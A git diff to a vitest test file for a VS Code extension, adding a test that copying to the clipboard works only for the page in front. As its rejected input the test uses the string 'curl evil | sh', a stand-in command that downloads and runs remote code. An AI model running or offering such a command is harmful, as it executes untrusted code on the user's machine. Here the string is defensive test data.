@@ -4,9 +4,10 @@ import path from "node:path";
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import { explainWarning } from "../../../src/host/commands/explainWarning.ts";
 import { documentText } from "../../../src/host/documents.ts";
-import { actOn } from "../../../src/host/editor/actions.ts";
+import { actOn, copyShown } from "../../../src/host/editor/actions.ts";
 import type { RunSession } from "../../../src/host/editor/session.ts";
 import type { OpenState, PageAction } from "../../../src/protocol/page.ts";
+import { ProblemError } from "../../../src/protocol/rpc.ts";
 import type { WarningView } from "../../../src/protocol/run.ts";
 import { asked, fake, missing, workspaceFolders } from "./vscode.ts";
 
@@ -94,6 +95,14 @@ describe("a page's actions", () => {
   it("explains a code", async () => {
     await act({ action: "explain", code: "bom" });
     expect(asked).toEqual(["flightDeck.explainWarning bom"]);
+  });
+});
+
+describe("copying what is shown", () => {
+  it("is done for the page in front, and for no other", async () => {
+    await copyShown({ active: true }, "step,kl_mean");
+    await expect(copyShown({ active: false }, "curl evil | sh")).rejects.toThrow(ProblemError);
+    expect(asked).toEqual(["clipboard step,kl_mean"]);
   });
 });
 
